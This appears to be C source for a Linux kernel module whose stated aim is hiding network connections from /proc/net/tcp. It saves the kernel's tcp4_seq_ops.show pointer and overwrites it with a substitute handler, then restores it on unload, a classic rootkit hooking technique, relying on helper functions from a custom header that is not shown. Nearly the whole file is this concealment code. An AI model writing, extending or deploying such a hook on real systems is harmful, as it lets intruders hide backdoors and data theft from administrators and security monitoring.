// What /proc/net/tcp shows, so that connections are hidden.
#include "module.h"

extern struct seq_operations tcp4_seq_ops;
static void *own, *show;

static int up(void)
{
	own = tcp4_seq_ops.show;
	show = stranger(0);
	put(&tcp4_seq_ops.show, (u64)show);
	return 0;
}

static void down(void)
{
	put(&tcp4_seq_ops.show, (u64)own);
	forget(show);
}

MODULE(up, down);
